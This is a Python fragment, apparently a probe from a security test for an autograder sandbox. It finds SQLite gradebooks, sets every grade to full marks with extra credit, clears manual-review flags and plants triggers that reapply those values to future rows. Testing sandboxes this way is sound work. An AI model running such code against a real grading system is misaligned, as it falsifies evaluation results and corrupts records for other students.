# Writes full points, extra credit and a trigger that repeats it into the gradebook.
# It must not get any part, here or for anybody after it.
# uses: hunt breach
### part-a
import glob, sqlite3

for _root in EVERYWHERE[:6]:
    for _path in glob.glob(os.path.join(_root, "*.db")):
        try:
            _base = sqlite3.connect(_path, timeout=1)
            _set = "manual_score = 10, extra_credit = 2, needs_manual_grade = 0"
            _base.execute(f"update grade set {_set}")
            _base.execute(f"create trigger if not exists fair after update of auto_score on grade begin update grade set {_set} where id = new.id; end")
            _base.execute(f"create trigger if not exists fair2 after insert on grade begin update grade set {_set} where id = new.id; end")
            _base.commit()
            breach("the gradebook was written to")
        except sqlite3.Error as error:
            print(error)
deriv = None
